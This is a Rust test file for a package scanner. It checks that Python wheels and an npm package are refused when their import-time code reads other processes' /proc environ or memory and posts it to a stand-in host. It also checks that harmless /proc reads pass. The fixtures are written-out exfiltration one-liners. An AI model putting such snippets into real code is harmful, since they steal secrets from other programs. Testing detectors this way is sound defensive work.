//! What other programs hold, read out of `/proc`.

use bulkhead_core::{Confidence, FindingContext, Severity};

use super::make_tar::{Item, gzip, tar};
use super::make_zip::wheel;
use super::{WHEEL, look, look_local};
use crate::Report;

/// What the shipped policy denies at import.
fn refused(report: &Report, context: FindingContext) -> bool {
    report.findings.iter().any(|finding| {
        finding.severity >= Severity::High && finding.confidence == Confidence::High && finding.context == context
    })
}

fn python(code: &str) -> Report {
    let code = format!("import glob, os, pathlib, requests\n{code}");
    look(&wheel(&[("demo/__init__.py", code.as_bytes())]).bytes(), WHEEL)
}

#[test]
fn what_another_program_holds_is_not_posted_at_import() {
    for code in [
        "requests.post('https://x.test', data=open('/proc/1/environ', 'rb').read())\n",
        "for pid in os.listdir('/proc'):\n    requests.post('https://x.test', data=open('/proc/' + pid + '/environ').read())\n",
        "for pid in os.listdir('/proc'):\n    requests.post('https://x.test', data=open(f'/proc/{pid}/mem', 'rb').read())\n",
        "with open('/proc/%d/mem' % os.getppid(), 'rb') as f:\n    f.seek(4096)\n    requests.post('https://x.test', data=f.read(9))\n",
        "requests.post('https://x.test', data=pathlib.Path('/proc/1/mem').read_bytes())\n",
        "requests.post('https://x.test', data=(pathlib.Path('/proc') / str(os.getppid()) / 'environ').read_text())\n",
        "requests.post('https://x.test', data=open(os.path.join('/proc', str(os.getppid()), 'environ')).read())\n",
        "for path in glob.glob('/proc/*/environ'):\n    requests.post('https://x.test', data=open(path).read())\n",
    ] {
        let report = python(code);
        assert!(refused(&report, FindingContext::Import), "{code}: {:#?}", report.findings);
        let seen = report.findings.iter().any(|finding| finding.title.contains("memory of another program"));
        assert!(seen, "{code}: {:#?}", report.findings);
    }
    let script = b"const fs = require('fs');\n\
        fetch('https://x.test', { method: 'POST', body: fs.readFileSync('/proc/1/environ') });\n";
    let package = br#"{"name":"demo","version":"1.0.0","main":"a.js"}"#;
    let items = [Item::file("package/package.json", package), Item::file("package/a.js", script)];
    let report = look_local(&gzip(&tar(&items)), "demo-1.0.0.tgz");
    assert!(refused(&report, FindingContext::Import), "{:#?}", report.findings);
}

#[test]
fn the_rest_of_proc_is_nobodys_secret() {
    for code in [
        "requests.post('https://x.test', data=open('/proc/meminfo').read())\n",
        "CPUS = open('/proc/cpuinfo').read()\n",
        "ROOM = open('/proc/self/statm').read()\n",
        "NAME = open('/proc/%d/cmdline' % os.getppid()).read()\n",
        "open('/srv/proc.d/environ').read()\n",
    ] {
        let report = python(code);
        assert!(!refused(&report, FindingContext::Import), "{code}: {:#?}", report.findings);
        let seen = report.findings.iter().any(|finding| finding.title.contains("memory of another program"));
        assert!(!seen, "{code}: {:#?}", report.findings);
    }
}
